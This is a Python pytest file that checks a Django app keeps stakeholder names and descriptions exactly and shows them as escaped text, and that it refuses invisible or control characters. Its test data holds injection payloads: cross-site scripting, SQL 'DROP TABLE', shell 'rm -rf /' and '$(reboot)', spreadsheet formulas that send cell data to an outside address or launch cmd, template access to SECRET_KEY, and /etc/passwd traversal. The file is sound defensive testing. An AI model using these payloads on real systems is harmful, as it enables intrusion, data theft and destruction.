"""Whatever somebody writes is refused in words, or kept letter by letter and shown as words wherever it appears."""

import html
import unicodedata

import pytest
from django.test import Client
from django.urls import reverse

from accounts.models import Account
from outcomes import queries, workbook
from stakeholders.nouns import Stakeholder
from tests import factories
from tests.core.intake.made_up import small
from tests.doors.door import asked, editor_of, form_of, held, shows_no_trace
from tests.doors.pages import pages_of

pytestmark = pytest.mark.django_db

TAKEN = {
    "a script": "<script>alert(document.cookie)</script>",
    "the end of an attribute": "\" onmouseover='alert(1)' x=\"",
    "the end of a title": "</title></h1></svg></style><img src=x onerror=alert(1)>",
    "a picture from elsewhere": '<img src="http://192.0.2.1/x.png"><link rel="attachment" href="file:///etc/passwd">',
    "a comment": "<!-- --> ]]> <![CDATA[ <?xml ?> -->",
    "a template": "{{ settings.SECRET_KEY }} {% load static %} {# x #} ${7*7} <%= 7 %> #{7}",
    "a format": "100% %s %d %(name)s %n %% {0} {name} {0.__class__}",
    "a query": "'; DROP TABLE accounts_account; --",
    "a command": "$(reboot) `reboot` | rm -rf / & ; > /dev/null",
    "a formula": '=HYPERLINK("http://192.0.2.1/?"&A1)',
    "a formula by a sign": "+1+cmd|' /C calc'!A0",
    "a formula by an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a number": "0x10",
    "a boolean": "TRUE",
    "an error": "#REF!",
    "an escape of a spreadsheet": "_x0041__x000D_",
    "an entity": "&lt;b&gt; &amp;lt; &#60; &nbsp;",
    "a path": "../../../../etc/passwd C:\\Windows",
    "an address": "javascript:alert(1) data:text/html,<script>",
    "letters of one kind that look like another": "Ｍｅｍｂｅｒｓ ⅷ ﬁ K Å",
    "letters with marks": "e\u0301 y\u0302 a\u0323\u0302",
    "marks upon marks": "Z" + "\u0301\u0316\u0327" * 30,
    "pictures": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4 \u2764\ufe0f",
    "from right to left": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "a word that joins": "\u0646\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "Welsh": "Llŷn, Môn ac ŵyl i’r hen bobl: “cyfle”",
    "quotes of every kind": "'\"`´‘’“”«»",
    "no space": "W" * 200,
    "a null in words": "None null undefined NaN",
}
REFUSED = {
    "nothing to see": "\u200b\u2060\ufeff",
    "a filler": "\u3164\u115f",
    "backwards": "abc\u202edef",
    "an isolate": "a\u2066b\u2069",
    "a mark of direction": "a\u200fb",
    "a null": "a\x00b",
    "a bell": "a\x07b",
    "an escape of a terminal": "\x1b[31mred",
    "a line in a line": "one\ntwo",
    "a line of another kind": "one\u2028two",
    "too long": "W" * 201,
}


@pytest.fixture
def account() -> Account:
    """Return an account."""
    return factories.account(small())


@pytest.fixture
def editor(account: Account) -> Client:
    """Return the browser of somebody who writes in it."""
    return editor_of(account.organisation)


@pytest.mark.parametrize("kind", TAKEN)
def test_what_is_taken_is_kept_letter_by_letter_and_shown_as_words(kind: str, account: Account, editor: Client) -> None:
    words = unicodedata.normalize("NFC", TAKEN[kind])
    page = reverse("outcomes:entry", args=[account.id, "stakeholders", "S1"])
    sent = {**form_of(editor, page), "name": TAKEN[kind], "description": f"{TAKEN[kind]}\r\n{TAKEN[kind]}"}
    assert editor.post(page, sent).status_code == 302
    held_now = queries.facts(account)
    assert held_now.stakeholders[0].name == words
    assert held_now.stakeholders[0].description == f"{words}\n{words}"
    assert html.escape(words) in editor.get(page).text


def test_nothing_that_is_taken_is_more_than_words_on_any_page_or_in_the_workbook() -> None:
    every = [unicodedata.normalize("NFC", words) for words in TAKEN.values()]
    groups = tuple(Stakeholder(ref=f"S{number}", name=words) for number, words in enumerate(every, start=1))
    account = factories.account(small(stakeholders=groups))
    client = editor_of(account.organisation)
    for page in pages_of(account):
        answer = asked(client, "get", page)
        if answer.headers["Content-Type"].startswith("text/html"):
            assert [words for words in every if words != html.escape(words) and words in answer.text] == [], page
    listed = client.get(reverse("outcomes:entries", args=[account.id, "stakeholders"])).text
    assert [words for words in every if html.escape(words) not in listed] == []
    held_now = queries.facts(account)
    assert workbook.read(workbook.write(held_now, None)) == held_now


@pytest.mark.parametrize("kind", REFUSED)
def test_what_would_hide_or_break_is_refused_and_stays_in_its_field(
    kind: str, account: Account, editor: Client
) -> None:
    page = reverse("outcomes:entry", args=[account.id, "stakeholders", "S1"])
    before = held()
    answer = editor.post(page, {**form_of(editor, page), "name": REFUSED[kind]})
    assert answer.status_code == 422
    assert 'href="#id_name"' in answer.text
    assert answer.context["form"]["name"].value() == REFUSED[kind]
    assert shows_no_trace(answer)
    assert held() == before


def test_five_thousand_characters_are_kept_and_one_more_is_refused(account: Account, editor: Client) -> None:
    page = reverse("outcomes:entry", args=[account.id, "stakeholders", "S1"])
    most = "ŵ" * 5_000
    assert editor.post(page, {**form_of(editor, page), "description": most}).status_code == 302
    assert queries.facts(account).stakeholders[0].description == most
    answer = editor.post(page, {**form_of(editor, page), "description": f"{most}ŵ"})
    assert answer.status_code == 422
    assert "5001 characters long; there is room for 5000" in answer.text
    assert f"{most}ŵ" in answer.text
